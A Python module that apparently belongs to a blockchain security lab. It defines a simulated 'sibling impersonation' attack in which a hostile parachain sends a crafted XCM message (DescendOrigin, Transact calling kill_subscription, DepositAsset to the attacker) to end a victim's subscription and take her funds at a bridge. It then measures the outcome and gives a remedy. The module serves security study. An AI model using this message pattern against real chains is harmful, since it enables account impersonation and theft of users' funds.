"""A hostile chain acts for any account of the bridge: whatever a sibling says its account is, the bridge believes.

A message from a sibling with a channel that descends into an account of 32 bytes is taken for the account of the same
bytes at the bridge. The chain writes the message, so it names whom it likes: it ends the victim's subscription and
takes its money. With a converter that hashes the chain's number and the account, it reaches an account of its own.
"""

from __future__ import annotations

from drandlab.attacks.attack import Attack, AttackOutcome, AttackParameter
from drandlab.attacks.linked_chains import BRIDGE, LinkedChains, hashed_account
from drandlab.attacks.small_bridge import ALICE, MALLORY
from drandlab.idn.runtime.calls import ROOT, Call
from drandlab.idn.subscriptions import policies
from drandlab.idn.xcm.assets import AllOf, Wild, relay_asset
from drandlab.idn.xcm.instructions import (
    BuyExecution,
    DepositAsset,
    DescendOrigin,
    OriginKind,
    RefundSurplus,
    Transact,
    WithdrawAsset,
)
from drandlab.idn.xcm.location_accounts import location_account
from drandlab.idn.xcm.locations import PARENT, AccountId32, account, sibling
from drandlab.idn.xcm.versioned import VersionedLocation, VersionedXcm

__all__ = ["ATTACK"]

CREDITS = 10


def _theory(policy: str, converter: str, amount: int) -> AttackOutcome:
    taken = converter == "same"
    return {"subscription": "Ended" if taken else "Active", "taken": amount if taken else 0, "gained": taken}


def _measure(seed: int, *, policy: str, converter: str, amount: int) -> AttackOutcome:
    chains = LinkedChains(
        policies[policy],
        first=1 + seed % 1000,
        alice=10**13,
        account_of=location_account if converter == "same" else hashed_account,
    )
    sub = chains.create(CREDITS)
    bridge, fee = chains.bridge, relay_asset(amount)
    call = bridge.runtime.table.encode_call(Call("IdnManager", "kill_subscription", {"sub_id": sub}))
    message = (
        DescendOrigin((AccountId32(None, ALICE),)),
        WithdrawAsset((fee,)),
        BuyExecution(fee, None),
        Transact(OriginKind.Xcm, None, call),
        RefundSurplus(),
        DepositAsset(Wild(AllOf(PARENT)), account(MALLORY)),
    )
    before, theirs = chains.owned(ALICE), bridge.free(MALLORY)
    written = {"dest": VersionedLocation(5, sibling(BRIDGE)), "message": VersionedXcm(5, message)}
    chains.hostile.plan("PolkadotXcm", "send", ROOT, **written)
    chains.step()
    chains.settle()
    return {
        "subscription": chains.state(sub),
        "taken": before - chains.owned(ALICE),
        "gained": bridge.free(MALLORY) > theirs,
    }


ATTACK = Attack(
    name="sibling_impersonation",
    about="A hostile sibling chain ends a customer's subscription and takes the customer's money at the bridge.",
    parameters={
        "policy": AttackParameter("deployed", "the rules of the manager", choices=("deployed", "seed")),
        "converter": AttackParameter(
            "same",
            "the account of a sibling's account: the same bytes, or a hash with the chain",
            choices=("same", "hash"),
        ),
        "amount": AttackParameter(10**12, "what the message takes, in planck", low=10**10, high=9 * 10**12),
    },
    sources=("Ideal Network SDK, December 2025: the converters of its runtime",),
    remedy="Give the accounts of a sibling hashed accounts here, so that a chain reaches none but its own.",
    theory=_theory,
    measure=_measure,
)
